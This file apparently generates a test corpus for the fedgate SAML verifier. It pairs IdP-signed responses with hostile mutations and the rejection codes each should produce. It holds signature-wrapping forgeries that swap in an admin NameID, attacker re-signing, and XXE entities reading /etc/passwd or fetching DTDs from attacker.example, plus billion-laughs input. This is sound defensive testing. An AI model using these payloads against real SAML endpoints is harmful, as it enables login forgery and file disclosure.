/**
 * The SAML attack corpus of SECURITY.md §3, generated at test time: a valid, IdP-signed response
 * (keys made fresh per run, see keys.ts) and mutators that do to it what an attacker holding it
 * could do (move, copy, change, re-sign with their own key), plus responses the IdP itself signed
 * with hostile content (control characters, element content, …) to reach the post-signature
 * checks. Every case names its shape (`xsw3.assertion.forged-copy-before-signed`) and the error
 * `code` fedgate must answer with (or `accept`).
 *
 * `npx tsx test/support/saml/make-saml-fixtures.ts [dir]` writes the corpus as
 * `{valid,invalid}/<name>.xml` plus the IdP certificate, for inspection with other tools.
 */
import { createHash } from 'node:crypto';
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { ExclusiveCanonicalization, SignedXml } from 'xml-crypto';
import {
  buildUpstreamResponse,
  signUpstreamResponse,
  type UpstreamResponseInput,
  type UpstreamSigningOptions,
} from '../../../infra/local/upstream/saml-response.js';
import { createTestKeyPair, type TestKeyPair } from '../../kit/keys.js';
import {
  all,
  child,
  edit,
  first,
  forgeAssertion,
  insertAfter,
  NS,
  parseXml,
  serializeXml,
  setText,
} from './xml-edit.js';

/** The SP side every case is addressed to. */
export const SAML_SP = {
  entityId: 'https://sso.example.com/saml/okta/metadata',
  acsUrl: 'https://sso.example.com/saml/okta/acs',
} as const;
/** The IdP every case claims to come from (Okta-shaped). */
export const IDP_ENTITY_ID = 'http://www.okta.com/exkfedgate1';
/** IdP B, configured elsewhere: its responses must not pass at IdP A's ACS. */
export const OTHER_IDP_ENTITY_ID = 'http://www.okta.com/exkotheridp';
/** The pending AuthnRequest of SP-initiated cases. */
export const REQUEST_ID = '_fedgate0123456789abcdef0123456789';
/** Lifetime of the generated assertions (SubjectConfirmationData and Conditions NotOnOrAfter). */
export const LIFETIME_SECONDS = 300;
/** fedgate's default skew, which the boundary cases are built around. */
export const SKEW_SECONDS = 60;

export const DEFAULT_ATTRIBUTES: Readonly<Record<string, readonly string[]>> = {
  email: ['jane.doe@corp.example'],
  firstName: ['Jane'],
  lastName: ['Doe'],
  oktaUserId: ['00u1fedgateJANE'],
  groups: ['Everyone', 'aws-developers', 'aws-readonly'],
};

/** Keys and clock of one corpus. */
export interface SamlFixtureEnv {
  /** Epoch seconds at which the documents are issued. */
  now: number;
  /** The IdP's signing key: the configured certificate. */
  idp: TestKeyPair;
  /** The IdP's next key (configured next to `idp` during a rollover). */
  rollover: TestKeyPair;
  /** Someone else's key, with a perfectly good self-signed certificate. */
  attacker: TestKeyPair;
  /** IdP B's key (another IdP fedgate trusts, for another ACS). */
  otherIdp: TestKeyPair;
}

export const createSamlFixtureEnv = async (
  now = Math.floor(Date.now() / 1000),
): Promise<SamlFixtureEnv> => {
  const [idp, rollover, attacker, otherIdp] = await Promise.all([
    createTestKeyPair('fedgate test IdP'),
    createTestKeyPair('fedgate test IdP (next)'),
    createTestKeyPair('attacker'),
    createTestKeyPair('fedgate test IdP B'),
  ]);
  return { now, idp, rollover, attacker, otherIdp };
};

export type SamlCaseGroup = 'valid' | 'wrapping' | 'signature' | 'parser' | 'values' | 'protocol';

/** Which certificates the IdP config lists. */
export type SamlCertSet = 'idp' | 'idp+rollover' | 'rollover-only';

export interface SamlCase {
  /** The shape, node-saml style: `<where>.<what>[.<how>]`. */
  name: string;
  group: SamlCaseGroup;
  /** `accept`, or the `code` fedgate must throw. */
  expect: 'accept' | string;
  /** The form value as posted. */
  samlResponseB64: string;
  /** The document (absent for byte-level cases that are not UTF-8 text). */
  xml?: string;
  /** IdP config deviations from the default (assertion must be signed, `idp` cert only). */
  idp?: {
    certificates?: SamlCertSet;
    allowUnsignedAssertion?: boolean;
    maxAuthnAgeSeconds?: number;
  };
  /** Verify-call deviations: the pending request, and seconds added to `env.now`. */
  input?: { expectedInResponseTo?: string; nowOffset?: number };
  /** Values the accepted result must carry. */
  accepted?: { nameId?: string; attribute?: [string, readonly string[]]; oneTimeUse?: boolean };
}

const b64 = (xml: string) => Buffer.from(xml, 'utf8').toString('base64');
const A = (local: string) => `saml2:${local}`;

const EXC_C14N = 'http://www.w3.org/2001/10/xml-exc-c14n#';
const ENVELOPED = 'http://www.w3.org/2000/09/xmldsig#enveloped-signature';

/** Signs one element with arbitrary (including forbidden) algorithms, straight through xml-crypto. */
const signWith = (
  xml: string,
  target: 'Assertion' | 'Response' | 'LogoutResponse',
  o: {
    key: string;
    cert?: string;
    signatureAlgorithm: string;
    digestAlgorithm: string;
    canonicalization: string;
    transforms: string[];
    hmac?: boolean;
  },
): string => {
  const ns = target === 'Assertion' ? NS.assertion : NS.protocol;
  const element = `//*[local-name(.)='${target}' and namespace-uri(.)='${ns}']`;
  const sig = new SignedXml({
    privateKey: o.key,
    ...(o.cert ? { publicCert: o.cert } : {}),
    signatureAlgorithm: o.signatureAlgorithm,
    canonicalizationAlgorithm: o.canonicalization,
  });
  if (o.hmac) sig.enableHMAC();
  sig.addReference({
    xpath: element,
    transforms: o.transforms,
    digestAlgorithm: o.digestAlgorithm,
  });
  sig.computeSignature(xml, {
    prefix: 'ds',
    location: {
      reference: `${element}/*[local-name(.)='Issuer' and namespace-uri(.)='${NS.assertion}']`,
      action: 'after',
    },
  });
  return sig.getSignedXml();
};

/** Builds the whole corpus for one environment. */
export const buildSamlCorpus = (env: SamlFixtureEnv): SamlCase[] => {
  const cases: SamlCase[] = [];
  const add = (c: Omit<SamlCase, 'samlResponseB64'> & { samlResponseB64?: string }) =>
    cases.push({ ...c, samlResponseB64: c.samlResponseB64 ?? b64(c.xml as string) });

  const build = (over: Partial<UpstreamResponseInput> = {}) =>
    buildUpstreamResponse({
      issuer: IDP_ENTITY_ID,
      audience: SAML_SP.entityId,
      acsUrl: SAML_SP.acsUrl,
      nameId: 'jane.doe@corp.example',
      attributes: DEFAULT_ATTRIBUTES,
      now: env.now,
      lifetimeSeconds: LIFETIME_SECONDS,
      ...over,
    });
  const sign = (xml: string, opts: Partial<UpstreamSigningOptions> = {}, key = env.idp) =>
    signUpstreamResponse(xml, {
      privateKeyPem: key.privateKeyPem,
      certificatePem: key.certificatePem,
      signAssertion: true,
      signResponse: false,
      ...opts,
    });
  /** IdP-signed (assertion) after `pre` edits the unsigned document as text. */
  const signedWith = (pre: (xml: string) => string, over: Partial<UpstreamResponseInput> = {}) =>
    sign(pre(build(over)));
  const valid = sign(build());
  const bothSigned = sign(build(), { signResponse: true });
  const responseOnly = sign(build(), { signAssertion: false, signResponse: true });
  const assertionOf = (doc: Document) => first(doc, NS.assertion, 'Assertion');
  const responseOf = (doc: Document) => doc.documentElement as Element;
  const signatureOf = (el: Element) => child(el, NS.dsig, 'Signature') as Element;
  const dsig = (doc: Document, local: string) => doc.createElementNS(NS.dsig, `ds:${local}`);

  // ---------------------------------------------------------------- valid (documented accepts)
  add({
    name: 'valid.okta.assertion-signed',
    group: 'valid',
    expect: 'accept',
    xml: valid,
    accepted: {
      nameId: 'jane.doe@corp.example',
      attribute: ['groups', DEFAULT_ATTRIBUTES.groups as string[]],
    },
  });
  add({
    name: 'valid.okta.response-and-assertion-signed',
    group: 'valid',
    expect: 'accept',
    xml: bothSigned,
  });
  add({
    name: 'valid.entra.assertion-signed',
    group: 'valid',
    expect: 'accept',
    xml: sign(build({ style: 'entra' }), { prefix: '' }),
  });
  add({
    name: 'valid.entra.response-and-assertion-signed',
    group: 'valid',
    expect: 'accept',
    xml: sign(build({ style: 'entra' }), { prefix: '', signResponse: true }),
  });
  add({
    name: 'valid.response-signed-only.when-allowed',
    group: 'valid',
    expect: 'accept',
    xml: responseOnly,
    idp: { allowUnsignedAssertion: true },
  });
  add({
    name: 'valid.sp-initiated.in-response-to',
    group: 'valid',
    expect: 'accept',
    xml: sign(build({ inResponseTo: REQUEST_ID })),
    input: { expectedInResponseTo: REQUEST_ID },
  });
  add({
    name: 'valid.reserialized-by-another-serializer',
    group: 'valid',
    expect: 'accept',
    xml: serializeXml(parseXml(valid)),
  });
  add({
    name: 'valid.keyinfo.replaced-by-attacker-cert-is-ignored',
    group: 'valid',
    expect: 'accept',
    xml: edit(valid, (doc) =>
      setText(first(doc, NS.dsig, 'X509Certificate'), env.attacker.certificateB64),
    ),
  });
  add({
    name: 'valid.keyinfo.removed',
    group: 'valid',
    expect: 'accept',
    xml: edit(valid, (doc) => {
      const keyInfo = first(doc, NS.dsig, 'KeyInfo');
      keyInfo.parentNode?.removeChild(keyInfo);
    }),
  });
  add({
    name: 'valid.rollover.signed-by-next-cert',
    group: 'valid',
    expect: 'accept',
    xml: sign(build(), {}, env.rollover),
    idp: { certificates: 'idp+rollover' },
  });
  add({
    name: 'valid.rollover.signed-by-current-cert',
    group: 'valid',
    expect: 'accept',
    xml: valid,
    idp: { certificates: 'idp+rollover' },
  });
  add({
    name: 'valid.encoding.utf8-bom',
    group: 'valid',
    expect: 'accept',
    samlResponseB64: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(valid)]).toString(
      'base64',
    ),
  });
  add({
    name: 'valid.base64.crlf-line-breaks',
    group: 'valid',
    expect: 'accept',
    samlResponseB64: (b64(valid).match(/.{1,76}/g) as string[]).join('\r\n'),
  });
  add({
    name: 'valid.algorithm.rsa-sha512-sha512',
    group: 'valid',
    expect: 'accept',
    xml: sign(build(), { algorithm: 'rsa-sha512', digest: 'sha512' }),
  });
  add({
    name: 'valid.nameid.character-references-decoded',
    group: 'valid',
    expect: 'accept',
    xml: signedWith((x) =>
      x.replace('>jane.doe@corp.example</', '>&#x6A;ane.doe&#64;corp.example</'),
    ),
    accepted: { nameId: 'jane.doe@corp.example' },
  });
  add({
    name: 'valid.nameid.confusable-kept-verbatim',
    group: 'valid',
    expect: 'accept',
    xml: sign(build({ nameId: 'аdmin@corp.example' })), // U+0430 CYRILLIC SMALL LETTER A
    accepted: { nameId: '\u0430dmin@corp.example' },
  });
  add({
    name: 'valid.attribute.named-proto-stays-a-plain-key',
    group: 'valid',
    expect: 'accept',
    // An own property named __proto__ (a literal `__proto__:` would set the prototype instead).
    xml: sign(
      build({
        attributes: Object.fromEntries([
          ...Object.entries(DEFAULT_ATTRIBUTES),
          ['__proto__', ['x']],
        ]),
      }),
    ),
    accepted: { attribute: ['__proto__', ['x']] },
  });
  add({
    name: 'valid.attribute.cdata-value',
    group: 'valid',
    expect: 'accept',
    xml: signedWith((x) => x.replace('>Jane</', '><![CDATA[Jane]]></')),
    accepted: { attribute: ['firstName', ['Jane']] },
  });
  add({
    name: 'valid.conditions.one-time-use',
    group: 'valid',
    expect: 'accept',
    xml: signedWith((x) =>
      x.replace(`</${A('Conditions')}>`, `<${A('OneTimeUse')}/></${A('Conditions')}>`),
    ),
    accepted: { oneTimeUse: true },
  });
  add({
    name: 'valid.skew.one-second-before-not-on-or-after-plus-skew',
    group: 'valid',
    expect: 'accept',
    xml: valid,
    input: { nowOffset: LIFETIME_SECONDS + SKEW_SECONDS - 1 },
  });
  add({
    name: 'valid.skew.exactly-not-before-minus-skew',
    group: 'valid',
    expect: 'accept',
    xml: sign(build({ notBeforeSkewSeconds: 0 })),
    input: { nowOffset: -SKEW_SECONDS },
  });

  // ---------------------------------------------------------------- signature wrapping (XSW)
  add({
    name: 'xsw1.response.signed-copy-inside-signature',
    group: 'wrapping',
    expect: 'saml_structure_invalid',
    idp: { allowUnsignedAssertion: true },
    xml: edit(responseOnly, (doc) => {
      const response = responseOf(doc);
      const copy = response.cloneNode(true) as Element;
      copy.removeChild(signatureOf(copy));
      signatureOf(response).appendChild(copy);
      response.setAttribute('ID', '_evil_response');
      setText(first(response, NS.assertion, 'NameID'), 'admin@corp.example');
    }),
  });
  add({
    name: 'xsw2.response.signed-copy-before-signature',
    group: 'wrapping',
    expect: 'saml_structure_invalid',
    idp: { allowUnsignedAssertion: true },
    xml: edit(responseOnly, (doc) => {
      const response = responseOf(doc);
      const copy = response.cloneNode(true) as Element;
      copy.removeChild(signatureOf(copy));
      response.insertBefore(copy, signatureOf(response));
      response.setAttribute('ID', '_evil_response');
      setText(first(response, NS.assertion, 'NameID'), 'admin@corp.example');
    }),
  });
  add({
    name: 'xsw3.assertion.forged-copy-before-signed',
    group: 'wrapping',
    expect: 'saml_structure_invalid',
    xml: edit(valid, (doc) => {
      const a = assertionOf(doc);
      responseOf(doc).insertBefore(forgeAssertion(a), a);
    }),
  });
  add({
    name: 'xsw4.assertion.signed-inside-forged',
    group: 'wrapping',
    expect: 'saml_structure_invalid',
    xml: edit(valid, (doc) => {
      const a = assertionOf(doc);
      const forged = forgeAssertion(a);
      responseOf(doc).replaceChild(forged, a);
      forged.appendChild(a);
    }),
  });
  add({
    name: 'xsw5.assertion.signed-modified-unsigned-copy-at-end',
    group: 'wrapping',
    expect: 'saml_structure_invalid',
    xml: edit(valid, (doc) => {
      const a = assertionOf(doc);
      const copy = a.cloneNode(true) as Element;
      copy.removeChild(signatureOf(copy));
      setText(first(a, NS.assertion, 'NameID'), 'admin@corp.example');
      responseOf(doc).appendChild(copy);
    }),
  });
  add({
    name: 'xsw6.assertion.signed-modified-copy-inside-signature',
    group: 'wrapping',
    expect: 'saml_structure_invalid',
    xml: edit(valid, (doc) => {
      const a = assertionOf(doc);
      const copy = a.cloneNode(true) as Element;
      copy.removeChild(signatureOf(copy));
      setText(first(a, NS.assertion, 'NameID'), 'admin@corp.example');
      signatureOf(a).appendChild(copy);
    }),
  });
  add({
    name: 'xsw7.assertion.signed-copy-in-extensions',
    group: 'wrapping',
    expect: 'saml_structure_invalid',
    xml: edit(valid, (doc) => {
      const a = assertionOf(doc);
      const extensions = doc.createElementNS(NS.protocol, 'saml2p:Extensions');
      responseOf(doc).replaceChild(forgeAssertion(a, { id: a.getAttribute('ID') as string }), a);
      extensions.appendChild(a);
      insertAfter(extensions, first(doc, NS.assertion, 'Issuer'));
    }),
  });
  add({
    name: 'xsw8.assertion.signed-copy-in-ds-object',
    group: 'wrapping',
    expect: 'saml_structure_invalid',
    xml: edit(valid, (doc) => {
      const a = assertionOf(doc);
      const original = a.cloneNode(true) as Element;
      original.removeChild(signatureOf(original));
      setText(first(a, NS.assertion, 'NameID'), 'admin@corp.example');
      const object = dsig(doc, 'Object');
      object.appendChild(original);
      signatureOf(a).appendChild(object);
    }),
  });
  add({
    name: 'wrap.assertion.signed-nested-in-subject-confirmation-data',
    group: 'wrapping',
    expect: 'saml_structure_invalid',
    xml: edit(valid, (doc) => {
      const a = assertionOf(doc);
      const forged = forgeAssertion(a);
      responseOf(doc).replaceChild(forged, a);
      first(forged, NS.assertion, 'SubjectConfirmationData').appendChild(a);
    }),
  });
  add({
    name: 'wrap.assertion.signed-nested-in-advice',
    group: 'wrapping',
    expect: 'saml_structure_invalid',
    xml: edit(valid, (doc) => {
      const a = assertionOf(doc);
      const forged = forgeAssertion(a);
      responseOf(doc).replaceChild(forged, a);
      const advice = doc.createElementNS(NS.assertion, 'saml2:Advice');
      advice.appendChild(a);
      forged.insertBefore(advice, first(forged, NS.assertion, 'AuthnStatement'));
    }),
  });
  add({
    name: 'wrap.document.multiple-root-elements',
    group: 'wrapping',
    expect: 'saml_malformed',
    xml: `${valid}${edit(valid, (doc) => setText(first(doc, NS.assertion, 'NameID'), 'admin@corp.example')).replace(/^<\?xml[^>]*\?>/, '')}`,
  });
  add({
    name: 'wrap.response.two-signed-assertions',
    group: 'wrapping',
    expect: 'saml_structure_invalid',
    xml: edit(valid, (doc) => {
      const other = assertionOf(parseXml(sign(build({ nameId: 'admin@corp.example' }))));
      responseOf(doc).appendChild(doc.importNode(other, true));
    }),
  });
  add({
    name: 'wrap.ids.response-id-equals-assertion-id',
    group: 'wrapping',
    expect: 'saml_structure_invalid',
    xml: edit(valid, (doc) =>
      responseOf(doc).setAttribute('ID', assertionOf(doc).getAttribute('ID') as string),
    ),
  });
  add({
    name: 'wrap.ids.forged-assertion-reuses-signed-id',
    group: 'wrapping',
    expect: 'saml_structure_invalid',
    xml: edit(valid, (doc) => {
      const a = assertionOf(doc);
      responseOf(doc).insertBefore(forgeAssertion(a, { id: a.getAttribute('ID') as string }), a);
    }),
  });
  add({
    name: 'wrap.ids.lowercase-id-attribute',
    group: 'wrapping',
    expect: 'saml_structure_invalid',
    xml: edit(valid, (doc) => assertionOf(doc).setAttribute('id', '_evil')),
  });
  add({
    name: 'wrap.ids.dsig-style-Id-on-assertion',
    group: 'wrapping',
    expect: 'saml_structure_invalid',
    xml: edit(valid, (doc) => assertionOf(doc).setAttribute('Id', '_evil')),
  });
  add({
    name: 'wrap.ids.saml-style-ID-on-signature',
    group: 'wrapping',
    expect: 'saml_structure_invalid',
    xml: edit(valid, (doc) => signatureOf(assertionOf(doc)).setAttribute('ID', '_sig')),
  });
  add({
    name: 'wrap.ids.forged-assertion-carries-signed-id-as-lowercase-id',
    group: 'wrapping',
    expect: 'saml_structure_invalid',
    xml: edit(valid, (doc) => {
      const a = assertionOf(doc);
      const forged = forgeAssertion(a);
      forged.setAttribute('id', a.getAttribute('ID') as string);
      // The forged assertion carries the original signature, whose Reference names the original ID.
      forged.insertBefore(signatureOf(a), first(forged, NS.assertion, 'Subject'));
      responseOf(doc).replaceChild(forged, a);
    }),
  });
  add({
    name: 'wrap.reference.uri-empty-whole-document',
    group: 'wrapping',
    expect: 'saml_structure_invalid',
    xml: edit(valid, (doc) => first(doc, NS.dsig, 'Reference').setAttribute('URI', '')),
  });
  add({
    name: 'wrap.reference.assertion-signature-points-at-response',
    group: 'wrapping',
    expect: 'saml_structure_invalid',
    xml: edit(valid, (doc) =>
      first(doc, NS.dsig, 'Reference').setAttribute(
        'URI',
        `#${responseOf(doc).getAttribute('ID')}`,
      ),
    ),
  });
  add({
    name: 'wrap.reference.xpointer',
    group: 'wrapping',
    expect: 'saml_structure_invalid',
    xml: edit(valid, (doc) => first(doc, NS.dsig, 'Reference').setAttribute('URI', '#xpointer(/)')),
  });
  add({
    name: 'wrap.reference.two-references',
    group: 'wrapping',
    expect: 'saml_structure_invalid',
    xml: edit(valid, (doc) => {
      const ref = first(doc, NS.dsig, 'Reference');
      const second = ref.cloneNode(true) as Element;
      second.setAttribute('URI', `#${responseOf(doc).getAttribute('ID')}`);
      insertAfter(second, ref);
    }),
  });
  add({
    name: 'wrap.reference.xpath-transform',
    group: 'wrapping',
    expect: 'saml_algorithm_not_allowed',
    xml: edit(valid, (doc) => {
      const t = dsig(doc, 'Transform');
      t.setAttribute('Algorithm', 'http://www.w3.org/TR/1999/REC-xpath-19991116');
      const xpath = dsig(doc, 'XPath');
      setText(xpath, "not(ancestor-or-self::*[local-name()='NameID'])");
      t.appendChild(xpath);
      first(doc, NS.dsig, 'Transforms').appendChild(t);
    }),
  });
  add({
    name: 'wrap.reference.xslt-transform',
    group: 'wrapping',
    expect: 'saml_algorithm_not_allowed',
    xml: edit(valid, (doc) => {
      const t = dsig(doc, 'Transform');
      t.setAttribute('Algorithm', 'http://www.w3.org/TR/1999/REC-xslt-19991116');
      first(doc, NS.dsig, 'Transforms').appendChild(t);
    }),
  });
  add({
    name: 'wrap.reference.transforms-removed',
    group: 'wrapping',
    expect: 'saml_structure_invalid',
    xml: edit(valid, (doc) => {
      const t = first(doc, NS.dsig, 'Transforms');
      t.parentNode?.removeChild(t);
    }),
  });
  add({
    name: 'wrap.reference.transforms-reordered',
    group: 'wrapping',
    expect: 'saml_structure_invalid',
    xml: edit(valid, (doc) => {
      const [enveloped, c14n] = all(doc, NS.dsig, 'Transform') as [Element, Element];
      enveloped.parentNode?.insertBefore(c14n, enveloped);
    }),
  });

  // ---------------------------------------------------------------- signature presence and keys
  add({
    name: 'signature.stripped',
    group: 'signature',
    expect: 'saml_signature_missing',
    xml: edit(valid, (doc) => assertionOf(doc).removeChild(signatureOf(assertionOf(doc)))),
  });
  add({
    name: 'signature.stripped.even-when-response-only-allowed',
    group: 'signature',
    expect: 'saml_signature_missing',
    idp: { allowUnsignedAssertion: true },
    xml: edit(valid, (doc) => assertionOf(doc).removeChild(signatureOf(assertionOf(doc)))),
  });
  add({
    name: 'response.assertion-unsigned.response-signed',
    group: 'signature',
    expect: 'saml_signature_missing',
    xml: responseOnly,
  });
  add({
    name: 'response.assertion-unsigned.wrapped-by-attacker',
    group: 'signature',
    expect: 'saml_signature_missing',
    xml: sign(
      build({ nameId: 'admin@corp.example' }),
      { signAssertion: false, signResponse: true },
      env.attacker,
    ),
  });
  add({
    name: 'signature.resigned-by-attacker.cert-in-keyinfo',
    group: 'signature',
    expect: 'saml_signature_invalid',
    xml: sign(build({ nameId: 'admin@corp.example' }), {}, env.attacker),
  });
  add({
    name: 'signature.resigned-by-attacker.response-only-allowed',
    group: 'signature',
    expect: 'saml_signature_invalid',
    idp: { allowUnsignedAssertion: true },
    xml: sign(
      build({ nameId: 'admin@corp.example' }),
      { signAssertion: false, signResponse: true },
      env.attacker,
    ),
  });
  add({
    name: 'signature.assertion-signed-by-idp.response-resigned-by-attacker',
    group: 'signature',
    expect: 'saml_signature_invalid',
    xml: sign(valid, { signAssertion: false, signResponse: true }, env.attacker),
  });
  add({
    name: 'signature.digest-mismatch.nameid-changed',
    group: 'signature',
    expect: 'saml_signature_invalid',
    xml: edit(valid, (doc) => setText(first(doc, NS.assertion, 'NameID'), 'admin@corp.example')),
  });
  add({
    name: 'signature.digest-mismatch.attribute-added',
    group: 'signature',
    expect: 'saml_signature_invalid',
    xml: edit(valid, (doc) => {
      const groups = all(doc, NS.assertion, 'AttributeValue').at(-1) as Element;
      const extra = groups.cloneNode(true) as Element;
      setText(extra, 'aws-admins');
      insertAfter(extra, groups);
    }),
  });
  add({
    name: 'signature.value-tampered',
    group: 'signature',
    expect: 'saml_signature_invalid',
    xml: edit(valid, (doc) => {
      const sv = first(doc, NS.dsig, 'SignatureValue');
      const text = sv.textContent as string;
      setText(sv, `${text[0] === 'A' ? 'B' : 'A'}${text.slice(1)}`);
    }),
  });
  add({
    name: 'signature.value-not-base64',
    group: 'signature',
    expect: 'saml_signature_invalid',
    xml: edit(valid, (doc) => setText(first(doc, NS.dsig, 'SignatureValue'), 'not*base64')),
  });
  add({
    name: 'signature.both-signed.response-tampered',
    group: 'signature',
    expect: 'saml_signature_invalid',
    xml: edit(bothSigned, (doc) =>
      responseOf(doc).setAttribute('Destination', 'https://evil.example/acs'),
    ),
  });
  add({
    name: 'signature.keyinfo.retrieval-method',
    group: 'signature',
    expect: 'saml_structure_invalid',
    xml: edit(valid, (doc) => {
      const rm = dsig(doc, 'RetrievalMethod');
      rm.setAttribute('URI', 'https://attacker.example/cert');
      first(doc, NS.dsig, 'KeyInfo').appendChild(rm);
    }),
  });
  add({
    name: 'signature.keyinfo.nested-signature',
    group: 'signature',
    expect: 'saml_structure_invalid',
    xml: edit(valid, (doc) => {
      const sig = first(doc, NS.dsig, 'Signature');
      first(doc, NS.dsig, 'KeyInfo').appendChild(sig.cloneNode(true));
    }),
  });
  add({
    name: 'algorithm.rsa-sha1',
    group: 'signature',
    expect: 'saml_algorithm_not_allowed',
    xml: sign(build(), { algorithm: 'rsa-sha1' }),
  });
  add({
    name: 'algorithm.sha1-digest',
    group: 'signature',
    expect: 'saml_algorithm_not_allowed',
    xml: sign(build(), { digest: 'sha1' }),
  });
  add({
    name: 'algorithm.rsa-sha1-sha1-both-signed',
    group: 'signature',
    expect: 'saml_algorithm_not_allowed',
    xml: sign(build(), { algorithm: 'rsa-sha1', digest: 'sha1', signResponse: true }),
  });
  add({
    name: 'algorithm.hmac-sha1-keyed-with-public-cert',
    group: 'signature',
    expect: 'saml_algorithm_not_allowed',
    xml: signWith(build({ nameId: 'admin@corp.example' }), 'Assertion', {
      key: env.idp.certificatePem,
      signatureAlgorithm: 'http://www.w3.org/2000/09/xmldsig#hmac-sha1',
      digestAlgorithm: 'http://www.w3.org/2001/04/xmlenc#sha256',
      canonicalization: EXC_C14N,
      transforms: [ENVELOPED, EXC_C14N],
      hmac: true,
    }),
  });
  add({
    name: 'algorithm.exc-c14n-with-comments',
    group: 'signature',
    expect: 'saml_algorithm_not_allowed',
    xml: signWith(build(), 'Assertion', {
      key: env.idp.privateKeyPem,
      cert: env.idp.certificatePem,
      signatureAlgorithm: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
      digestAlgorithm: 'http://www.w3.org/2001/04/xmlenc#sha256',
      canonicalization: `${EXC_C14N}WithComments`,
      transforms: [ENVELOPED, `${EXC_C14N}WithComments`],
    }),
  });
  add({
    name: 'algorithm.inclusive-c14n',
    group: 'signature',
    expect: 'saml_algorithm_not_allowed',
    xml: signWith(build(), 'Assertion', {
      key: env.idp.privateKeyPem,
      cert: env.idp.certificatePem,
      signatureAlgorithm: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
      digestAlgorithm: 'http://www.w3.org/2001/04/xmlenc#sha256',
      canonicalization: 'http://www.w3.org/TR/2001/REC-xml-c14n-20010315',
      transforms: [ENVELOPED, 'http://www.w3.org/TR/2001/REC-xml-c14n-20010315'],
    }),
  });
  add({
    name: 'algorithm.rsa-pss-declared',
    group: 'signature',
    expect: 'saml_algorithm_not_allowed',
    xml: edit(valid, (doc) =>
      first(doc, NS.dsig, 'SignatureMethod').setAttribute(
        'Algorithm',
        'http://www.w3.org/2007/05/xmldsig-more#sha256-rsa-MGF1',
      ),
    ),
  });
  add({
    name: 'rollover.removed-cert-no-longer-verifies',
    group: 'signature',
    expect: 'saml_signature_invalid',
    xml: valid,
    idp: { certificates: 'rollover-only' },
  });
  add({
    name: 'idp-b.response-posted-to-idp-a',
    group: 'signature',
    expect: 'saml_signature_invalid',
    xml: sign(build({ issuer: OTHER_IDP_ENTITY_ID }), {}, env.otherIdp),
  });
  add({
    name: 'idp-b.key-with-idp-a-issuer',
    group: 'signature',
    expect: 'saml_signature_invalid',
    xml: sign(build(), {}, env.otherIdp),
  });

  // ---------------------------------------------------------------- parser and resources
  const body = valid.replace(/^<\?xml[^>]*\?>/, '');
  const decl = '<?xml version="1.0" encoding="UTF-8"?>';
  // Hostile parser input goes into the unsigned Response wrapper where it can (after the Status
  // code), so that it is the parser guard that refuses it, not a broken signature.
  const success = '<saml2p:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/>';
  const inStatus = (inner: string) => valid.replace(success, `${success}${inner}`);
  add({
    name: 'parser.xxe.file-entity',
    group: 'parser',
    expect: 'saml_forbidden_construct',
    xml: `${decl}<!DOCTYPE saml2p:Response [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${body.replace('>Jane<', '>&xxe;<')}`,
  });
  add({
    name: 'parser.xxe.metadata-url-entity',
    group: 'parser',
    expect: 'saml_forbidden_construct',
    xml: `${decl}<!DOCTYPE saml2p:Response [<!ENTITY xxe SYSTEM "https://attacker.example/metadata.xml">]>${body.replace('>Jane<', '>&xxe;<')}`,
  });
  add({
    name: 'parser.xxe.parameter-entity',
    group: 'parser',
    expect: 'saml_forbidden_construct',
    xml: `${decl}<!DOCTYPE r [<!ENTITY % p SYSTEM "https://attacker.example/x.dtd"> %p;]>${body}`,
  });
  add({
    name: 'parser.billion-laughs',
    group: 'parser',
    expect: 'saml_forbidden_construct',
    xml: `${decl}<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>${body.replace('>Jane<', '>&d;<')}`,
  });
  add({
    name: 'parser.doctype-alone',
    group: 'parser',
    expect: 'saml_forbidden_construct',
    xml: `${decl}<!DOCTYPE saml2p:Response>${body}`,
  });
  add({
    name: 'parser.processing-instruction.stylesheet',
    group: 'parser',
    expect: 'saml_forbidden_construct',
    xml: `${decl}<?xml-stylesheet href="https://attacker.example/x.xsl"?>${body}`,
  });
  add({
    name: 'parser.processing-instruction.inside-response',
    group: 'parser',
    expect: 'saml_forbidden_construct',
    xml: inStatus('<?evil x?>'),
  });
  add({
    name: 'parser.comment.between-elements',
    group: 'parser',
    expect: 'saml_forbidden_construct',
    xml: valid.replace(`<${A('Subject')}>`, `<!-- note --><${A('Subject')}>`),
  });
  add({
    name: 'parser.oversize.base64',
    group: 'parser',
    expect: 'saml_malformed',
    samlResponseB64: b64(
      inStatus(`<saml2p:StatusMessage>${'x'.repeat(200_000)}</saml2p:StatusMessage>`),
    ),
  });
  add({
    name: 'parser.deep-nesting',
    group: 'parser',
    expect: 'saml_malformed',
    xml: inStatus(
      `<saml2p:StatusDetail>${'<x:a xmlns:x="urn:x">'.repeat(100)}${'</x:a>'.repeat(100)}</saml2p:StatusDetail>`,
    ),
  });
  add({
    name: 'parser.too-many-elements',
    group: 'parser',
    expect: 'saml_malformed',
    xml: inStatus(
      `<saml2p:StatusDetail>${'<x:a xmlns:x="urn:x"/>'.repeat(6000)}</saml2p:StatusDetail>`,
    ),
  });
  add({
    name: 'parser.encoding.utf16le-with-bom',
    group: 'parser',
    expect: 'saml_malformed',
    samlResponseB64: Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from(valid.replace('UTF-8', 'UTF-16'), 'utf16le'),
    ]).toString('base64'),
  });
  add({
    name: 'parser.encoding.utf16le-without-bom',
    group: 'parser',
    expect: 'saml_malformed',
    samlResponseB64: Buffer.from(body, 'utf16le').toString('base64'),
  });
  add({
    name: 'parser.encoding.declared-utf16',
    group: 'parser',
    expect: 'saml_malformed',
    xml: valid.replace('encoding="UTF-8"', 'encoding="UTF-16"'),
  });
  add({
    name: 'parser.encoding.invalid-utf8',
    group: 'parser',
    expect: 'saml_malformed',
    samlResponseB64: ((xml: string) =>
      Buffer.concat([
        Buffer.from(xml.slice(0, xml.indexOf('@@'))),
        Buffer.from([0xc3, 0x28]),
